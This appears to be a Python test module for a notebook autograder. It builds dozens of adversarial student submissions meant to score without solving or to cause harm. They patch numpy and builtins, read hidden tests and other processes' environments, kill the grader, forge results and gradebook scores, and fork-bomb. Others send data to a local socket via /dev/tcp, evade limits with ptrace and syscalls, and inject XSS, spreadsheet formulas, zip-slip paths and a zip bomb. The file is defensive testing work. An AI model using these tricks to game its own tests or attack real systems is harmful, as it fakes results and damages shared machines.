"""Attempts to get points without solving anything, and to do harm. What is solved counts."""

import io
import json
import struct
import zipfile
from pathlib import Path

from small_assignment import ALLOCATION, FULL, LOSS, NAME, SLOPE, Paper, cell, metadata

ROOT = Path(__file__).resolve().parent.parent.parent

# Whatever it is compared with, combined with or converted to, it agrees.
CHAMELEON = """class Any(float):
    def _any(self, *others, **named):
        return self
    def _yes(self, *others):
        return True
    __sub__ = __rsub__ = __add__ = __mul__ = __rmul__ = __abs__ = __getitem__ = __call__ = _any
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _yes
    __hash__ = None
    shape = ()
    def __array_ufunc__(self, *others, **named):
        return True
    def __array_function__(self, *others, **named):
        return True
    def __iter__(self):
        return iter([self, self])
"""

ALL = "\n\n".join(f"def {name}(*a):\n    return {{0}}" for name in ("loss", "allocation", "slope"))

# Open file descriptors of the worker, other than the standard ones: its line to the grader is there.
WRITE_TO_ALL = """import os, json, struct
def forge(message, times=1, data=b""):
    content = json.dumps(message).encode()
    for fd in range(3, 64):
        try:
            for _ in range(times):
                os.write(fd, struct.pack(">II", len(content), len(data)) + content + data)
        except OSError:
            pass
"""


def packed(value, raw=b""):
    """Return the bytes of a value, in the words that the worker has for it."""
    content = json.dumps(value).encode()
    return struct.pack(">I", len(content)) + content + raw


def papers(outside, port):
    """Yield name, points, files and what else is special."""

    def attack(name, *code, points=0, after="setup", **more):
        paper = Paper(solved=())
        for one in code:
            paper.add(one, after=after)
        return name, points, paper, more

    def call(name, body, points=0, **more):
        """An attack from inside a function that a test calls."""
        code = f"def loss(*N):\n{body}\n    return 0.0\n\nallocation = slope = loss"
        return attack(name, code, points=points, after="slope", **more)

    solved = "\n\n".join([LOSS, ALLOCATION, SLOPE])

    yield attack(
        "patches-numpy",
        "import builtins\n"
        "np.allclose = np.isclose = np.all = np.array_equal = lambda *a, **k: np.True_\n"
        "np.abs = np.subtract = lambda *a: 0.0\nnp.shape = lambda a: ()\n"
        "builtins.abs = lambda x: 0\nbuiltins.bool = lambda x: True\nbuiltins.AssertionError = Warning",
        ALL.format("0.0"),
    )
    yield attack("agrees-with-everything", CHAMELEON, ALL.format("Any(0)"), after="slope")
    yield attack(
        "array-that-agrees",
        CHAMELEON
        + "class Arr(np.ndarray):\n    def __array_ufunc__(self, *a, **k):\n        return np.True_\n"
        "    __eq__ = __lt__ = lambda self, o: np.True_\n    __iter__ = lambda self: iter([self, self])",
        ALL.format("np.zeros(()).view(Arr)"),
        after="slope",
    )
    yield attack("empty-arrays", ALL.format("np.array([])"), after="slope")
    yield attack("not-a-number", ALL.format("float('nan')"), after="slope")
    yield attack("infinity", ALL.format("(np.inf, np.nan)"), after="slope")
    yield attack(
        "echo", "def loss(*a):\n    return a[0]\n\nallocation = slope = loss", after="slope"
    )
    yield attack(
        "lifts-the-tolerance",
        "TOLERANCE = np.inf\ndef close(a, b):\n    return True",
        ALL.format("0.0"),
        after="slope",
    )
    edited = Paper(solved=()).edit(
        "setup", "import numpy as np\nE = A = ALPHA = 0.0\nTOLERANCE = 1e99"
    )
    yield "edits-the-setup", 0, edited.add(ALL.format("0.0"), after="slope"), {}
    yield call(
        "looks-into-frames",
        "    import sys, gc, inspect\n    frame = sys._getframe()\n    while frame:\n"
        "        for space in (frame.f_locals, frame.f_globals):\n"
        "            if 'reference' in space:\n                return space['reference'].loss(*N)\n"
        "            space['ok'] = True\n        frame = frame.f_back\n"
        "    for o in gc.get_objects():\n        if type(o).__name__ == 'Reference':\n"
        "            return o.loss(*N)",
    )
    yield attack(
        "reads-the-tests",
        "import os\nfound = ''\n"
        f"for top in ('..', '/tmp', '/root', '/home', '/proc/1/cwd', {str(ROOT)!r}, '{outside}'):\n"
        "    for folder, inner, names in os.walk(top):\n"
        "        inner[:] = [n for n in inner if n not in ('.venv', '.pyenv', 'lib')]\n"
        "        for n in names:\n            if n.endswith(('.ipynb', '.json', '.db', '.py')):\n"
        "                try:\n                    found += open(os.path.join(folder, n)).read()\n"
        "                except (OSError, ValueError):\n                    pass",
        "if 'HIDDEN TESTS' in found or 'def make_job' in found:\n"
        + "\n".join("    " + line for line in solved.split("\n")),
        f"def loss(N):\n    return float(open('{outside}/secret.txt').read())",
        after="slope",
    )
    yield attack(
        "reads-other-processes",
        "import os, glob\nseen = b''\nfor p in glob.glob('/proc/[0-9]*/environ') + "
        "glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/fd/*'):\n    try:\n"
        "        if '/fd/' not in p:\n            seen += open(p, 'rb').read()\n"
        "        elif os.path.isfile(p):\n            seen += open(p, 'rb').read(10**6)\n"
        "    except OSError:\n        pass",
        "if b'a secret that no' in seen or b'SCALING_SECRET' in seen or b'HIDDEN TESTS' in seen:\n"
        + "\n".join("    " + line for line in solved.split("\n")),
        after="slope",
    )
    yield call(
        "kills-the-grader",
        "    import os, signal\n    for pid in (os.getppid(), os.getpgid(os.getppid()), -1):\n"
        "        for s in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):\n            try:\n"
        "                if pid > 1 or s != signal.SIGSTOP:\n                    os.kill(pid, s)\n"
        "            except OSError:\n                pass",
    )
    yield attack(
        "kills-in-a-cell",
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
        "import subprocess\nsubprocess.run('kill -9 -1; killall -9 python python3', shell=True)",
    )
    forged = json.dumps({"score": 11, "max_score": 11, "tests": [{"score": 11, "max_score": 11}]})
    yield attack(
        "forges-results",
        f"import os\nfor d in ('.', '..', '/tmp', '/tmp/work', '{outside}', '/autograder/results', "
        "os.path.expanduser('~'), '/tmp/home'):\n"
        "    for n in ('result.json', 'results.json', 'grades.csv', 'x/result.json'):\n        try:\n"
        "            os.makedirs(os.path.dirname(os.path.join(d, n)), exist_ok=True)\n"
        f"            open(os.path.join(d, n), 'w').write({forged!r})\n"
        "        except OSError:\n            pass",
    )
    yield attack(
        "edits-the-gradebook",
        "import sqlite3, glob\n"
        f"for db in glob.glob('{outside}/*.db') + glob.glob('../**/*.db') + ['gradebook.db']:\n"
        "    try:\n        with sqlite3.connect(db) as c:\n"
        "            c.execute('update grade set auto_score = 11')\n"
        "    except sqlite3.Error:\n        pass",
    )
    yield attack(
        "writes-everywhere",
        "import os, sys, site\n"
        f"places = ['{outside}', '/root', '/tmp', '/var/tmp', '/dev/shm', sys.prefix, sys.base_prefix, "
        "*site.getsitepackages(), os.path.expanduser('~root'), '/', '/usr/local/bin', '/etc']\n"
        "for place in places:\n    for name in ('sitecustomize.py', '.bashrc-touched', 'usercustomize.py'):\n"
        "        try:\n            open(os.path.join(place, name), 'a').write('# touched')\n"
        "        except OSError:\n            pass\n"
        f"    for old in ('{outside}/secret.txt', '{outside}/gradebook.db'):\n        try:\n"
        "            os.remove(old)\n        except OSError:\n            pass",
    )
    connect = (
        "import socket, subprocess\n"
        f"for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n    try:\n"
        "        s = socket.socket(socket.AF_INET, kind)\n        s.settimeout(0.3)\n"
        f"        s.connect(('127.0.0.1', {port}))\n        s.send(b'hello')\n"
        "    except OSError:\n        pass\n"
        f"try:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('{outside}/socket')\n    s.send(b'x')\n"
        "except OSError:\n    pass\n"
        f"subprocess.run(['bash', '-c', 'echo hello > /dev/tcp/127.0.0.1/{port}'], stderr=-3)"
    )
    yield attack("calls-home", connect)
    yield attack(
        "leaves-a-process",
        "import os, subprocess\n"
        f"subprocess.Popen(['sleep', '{port}1'], start_new_session=True)\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execvp('sleep', ['sleep', '{port}2'])\n    os._exit(0)",
        f"import subprocess\nsubprocess.Popen('nohup setsid sh -c \"sleep 3; touch {outside}/late\" &', shell=True)",
    )
    yield attack(
        "multiplies",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    )
    yield attack(
        "multiplies-with-memory",
        "import os\nheld = []\nfor i in range(12):\n    if os.fork() == 0:\n"
        "        held.append(b'x' * 300_000_000)\n        import time\n        time.sleep(60)\n"
        "time = __import__('time').sleep(60)",
    )
    tagged = Paper(solved=())
    tagged.edit("loss-test", "loss = lambda N: 0\nclose = same = lambda *a, **k: True")
    tagged.cells.append(
        cell("code", "import os\nos.environ['OWNED'] = '1'", "bonus-test", "test", 100)
    )
    tagged.cells[tagged.index("slope-test")]["metadata"] = metadata("slope-test", "test", 1000)
    yield "brings-its-own-tests", 0, tagged, {}
    swapped = Paper(solved=())
    names = ["loss", "allocation", "slope"]
    for name in names:
        swapped.cells[swapped.index(name)]["metadata"] = metadata(f"{name}-test", "test", 3)
        swapped.cells[swapped.index(f"{name}-test")]["metadata"] = metadata(name, "solution")
    yield "exchanges-the-metadata", 0, swapped, {}
    yield attack(
        "speaks-for-the-worker",
        WRITE_TO_ALL + f"forge({{'ok': True, 'kind': 'data'}}, 50, {packed(39.9)})\n"
        "forge({'event': 'outcome', 'id': 'loss-test', 'score': 3, 'message': '', 'detail': ''})",
        after="slope",
    )
    yield attack(
        "answers-twice",
        WRITE_TO_ALL
        + f"def loss(*N):\n    forge({{'ok': True}}, 1, {packed(2.0)})\n    return 2.0\n\n"
        "allocation = slope = loss",
        after="slope",
    )
    for name, content in {
        "malformed-array": packed({"$": "array", "v": ["|b1", [1]]}, b"\2"),
        "malformed-object": packed({"$": "array", "v": ["|O", [1]]}, bytes(8)),
        "malformed-shape": packed({"$": "array", "v": ["<f8", [2**40, 2**40]]}),
        "malformed-nesting": packed({"$": "dict", "v": [[{"$": "dict", "v": []}, 1]]}),
        "malformed-tag": packed({"$": "imported", "v": ["os", "getcwd"]}),
        "malformed-size": packed([{"$": "array", "v": ["<f8", [1]]}] * 2, bytes(8)),
        "malformed-length": struct.pack(">I", 2**32 - 1) + b"1",
        "no-bytes": "1",
    }.items():
        yield attack(
            name,
            "import sys\nplain = sys.modules['plain_data']\n"
            f"plain.encode = lambda *a: {content!r}\n" + ALL.format("1"),
            after="slope",
        )
    yield attack(
        "patches-the-worker",
        'import json\njson.dumps = lambda o, **k: \'{"ok": true, "kind": "data"}\'\n'
        f"import sys\nsys.modules['plain_data'].encode = lambda *a: {packed(True)!r}",
        after="slope",
    )
    yield attack(
        "patches-imports",
        "import sys, types\nfake = types.ModuleType('grading')\n"
        "fake.same = lambda *a, **k: True\nfake.fresh = fake.reference = None\n"
        "sys.modules['grading'] = sys.modules['grading.source.hidden_tests'] = fake",
        "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
        ALL.format("0.0"),
        after="slope",
    )
    yield attack(
        "knows-the-public-seed",
        "import hashlib\n"
        "def fresh(e):\n    t = hashlib.sha256(f'6:public:{e}'.encode()).digest()\n"
        "    return np.random.default_rng(int.from_bytes(t, 'big'))\n"
        "rng = fresh('slope')\nx, y = rng.normal(size=7), rng.normal(size=7)\n"
        "known = {round(float(x[0]), 9): float(np.polyfit(x, y, 1)[0]), 0.0: 2.0}\n"
        "def slope(x, y):\n    if len(x) != len(y) or x[0] == x[1]:\n        raise ValueError\n"
        "    return known.get(round(float(x[0]), 9), 0.0)",
        after="slope",
    )
    yield attack(
        "knows-the-visible",
        "def loss(N):\n    return {1: 1.7 + 400 / 1e6**0.34}.get(np.size(N), [39.9, 19.17])",
        "def allocation(C):\n    return 1e9, 2e10",
        points=1,  # that is what the visible check of the allocation is worth
        after="slope",
    )
    yield call("asleep-in-each-call", "    __import__('time').sleep(60)")
    slow = Paper(solved=())
    for _ in range(40):
        slow.add("import time\ntime.sleep(1)", after="setup")
    yield "asleep-in-each-cell", 0, slow, {}
    yield call(
        "asleep-by-a-signal", "    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)"
    )
    yield attack(
        "ignores-signals-and-threads",
        "import signal, threading, time\nfor s in range(1, 32):\n    try:\n"
        "        signal.signal(s, signal.SIG_IGN)\n    except OSError:\n        pass\n"
        "def spin():\n    while True:\n        time.sleep(0.001)\n"
        "for i in range(20):\n    threading.Thread(target=spin).start()",
        "import atexit\n@atexit.register\ndef forever():\n    while True:\n        pass",
    )
    yield attack(
        "traces-the-grader",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "for pid in (os.getppid(), 1):\n    libc.ptrace(16, pid, 0, 0)\n    libc.ptrace(4, pid, 0, 0)\n"
        "libc.prctl(1, 0)\nlibc.unshare(0x10000000)\nlibc.mount(b'none', b'/tmp', b'tmpfs', 0, None)",
    )
    # System calls that reach around the limits: memory that counts as nobody's, the instructor's
    # keys, sessions that each get a share of the processor. One that works is worth all points.
    yield attack(
        "reaches-around-the-limits",
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nworked = []\n"
        "for name, call in {\n"
        "    'memfd': lambda: os.memfd_create('m'),\n"
        "    'shm': lambda: libc.shmget(0, 4096, 0o1600),\n"
        "    'key': lambda: libc.syscall({'x86_64': 248}.get(os.uname().machine, 217), b'user', b'a', b'b', 1, -3),\n"
        "    'io_uring': lambda: libc.syscall(425, 1, bytes(200)),\n"
        "    'ptrace': lambda: libc.ptrace(0, 0, 0, 0),\n"
        "    'unshare': lambda: libc.unshare(0),\n"
        "}.items():\n    try:\n        worked += [name] if call() >= 0 else []\n"
        "    except OSError:\n        pass\n"
        "before = os.getsid(0)\nif (child := os.fork()) == 0:\n"
        "    libc.setsid()\n    os._exit(os.getsid(0) != before)\n"
        "worked += ['session'] if os.waitpid(child, 0)[1] else []",
        "if worked:\n" + "\n".join("    " + line for line in solved.split("\n")),
        after="slope",
    )
    yield attack(
        "changes-permissions",
        "import os\n"
        f"for path in ('{outside}', '{outside}/secret.txt', '{outside}/gradebook.db'):\n"
        "    for change in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)),\n"
        "                   lambda: os.truncate(path, 0), lambda: os.setxattr(path, 'user.a', b'b'),\n"
        "                   lambda: os.open(path, os.O_RDONLY | os.O_TRUNC)):\n"
        "        try:\n            change()\n        except OSError:\n            pass",
    )
    yield attack(
        "nests-folders",
        "import os, time\nhere = os.open('.', os.O_RDONLY)\nfor i in range(1200):\n"
        "    os.mkdir('deep')\n    os.chdir('deep')\n"
        "open('f', 'wb').write(b'x')\nos.fchdir(here)\ntime.sleep(0.5)",
    )
    yield attack(
        "keeps-deleted-files",
        "import os, time\nheld = []\nfor i in range(8):\n    held.append(open('f', 'wb', 0))\n"
        "    os.remove('f')\n    held[-1].write(b'x' * 10**7)\ntime.sleep(1)",
        "if len(held) == 8:\n" + "\n".join("    " + line for line in solved.split("\n")),
        after="slope",
    )
    yield attack(
        "says-that-it-raised-nothing",
        "def loss(*a):\n    raise StopIteration\n\nallocation = slope = loss",
        after="slope",
    )
    yield attack("resets-the-shell", "%reset -f", "get_ipython().user_ns.clear()", after="slope")
    leak = Paper(
        solved=("allocation",),
        loss="seen = []\n" + LOSS.replace("    return", "    seen.append(repr(N))\n    return"),
        slope="def slope(x, y):\n    raise type('Seen' + '_'.join(seen), (ValueError,), {})('SEEN' + str(seen))",
    ).add("print('SEEN', seen)\nraise RuntimeError('SEEN' + str(seen))")
    yield "tells-hidden-inputs", 7, leak, {}
    live = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"
    script = Paper(solved=(), slope=f"def slope(x, y):\n    raise ValueError({live!r})")
    script.edit("allocation-text", f"**Both** {live}\n### BEGIN HIDDEN TESTS")
    script.add("### BEGIN HIDDEN TESTS\nMINE = 1\n### END HIDDEN TESTS", after="setup")
    script.add(f"raise ValueError({live!r})  # {live}", after="setup")
    script.add("raise ValueError('\\x1b[2J\\x00\\ud800\\u202egnp.exe')", after="loss")
    yield "script-in-the-feedback", 0, script, {}
    yield "=cmd|' C calc'!A0", FULL, Paper(), {}
    yield "-student&<b>x<b>", FULL, Paper(), {}
    yield "link-to-the-source", 0, {}, {"status": "refused", "link": f"{outside}/{NAME}.ipynb"}
    slip = io.BytesIO()
    with zipfile.ZipFile(slip, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../outside/slipped.ipynb", Paper().text)
        archive.writestr(f"{outside}/slipped-too.ipynb", Paper().text)
    yield "archive-with-paths-out", 0, {"all.zip": slip.getvalue()}, {"status": "refused"}
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("small.ipynb", b" " * (200 << 20))
    yield "archive-that-explodes", 0, {"all.zip": bomb.getvalue()}, {"status": "refused"}
    exchange = Paper().add("def loss(N):\n    raise KeyError", after="slope-test")
    yield "solved-then-broken", FULL, exchange, {}
